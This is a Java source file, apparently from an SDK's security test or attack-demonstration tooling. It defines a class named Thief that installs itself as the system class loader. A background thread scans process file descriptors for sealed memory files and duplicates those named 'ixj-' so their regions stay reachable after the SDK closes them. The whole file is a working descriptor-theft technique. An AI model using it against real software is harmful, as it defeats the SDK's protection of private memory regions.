// SPDX-License-Identifier: Apache-2.0
package org.ixj.tools.attack;

import java.util.concurrent.ConcurrentHashMap;

/**
 * Keeps the descriptors of the regions, which the SDK closes once it has mapped them. As the
 * application's system class loader it comes before the SDK, and watches for memory files to appear
 * among the process's descriptors.
 */
public final class Thief extends ClassLoader {
  private static final long DUPLICATE = 1030; // F_DUPFD_CLOEXEC
  private static final long SEALS = 1034; // F_GET_SEALS, which only memory files know
  private static final int FIRST = 3;
  private static final int LAST = 64;
  private static final int REGIONS = 4;

  private static final ConcurrentHashMap<String, Integer> STOLEN = new ConcurrentHashMap<>();

  /** Called by the virtual machine in place of {@code parent}. */
  public Thief(ClassLoader parent) {
    super(parent);
    Thread.ofPlatform().daemon().start(Thief::watch);
  }

  private static void watch() {
    while (STOLEN.size() < REGIONS) {
      for (int fd = FIRST; fd < LAST; fd++) {
        if (Syscall.call(Syscall.FCNTL, fd, SEALS) >= 0) {
          keep((int) Syscall.call(Syscall.FCNTL, fd, DUPLICATE, LAST));
        }
      }
    }
  }

  private static void keep(int copy) {
    String target = copy < 0 ? "" : Syscall.target(copy);
    int name = target.indexOf("ixj-");
    if (name < 0 || STOLEN.putIfAbsent(target.substring(name).split(" ", 2)[0], copy) != null) {
      Syscall.call(Syscall.CLOSE, copy);
    }
  }

  /** The descriptor of a region by its file's name, -1 if it was not caught. */
  public static int file(String region) {
    return STOLEN.getOrDefault(region, -1);
  }
}
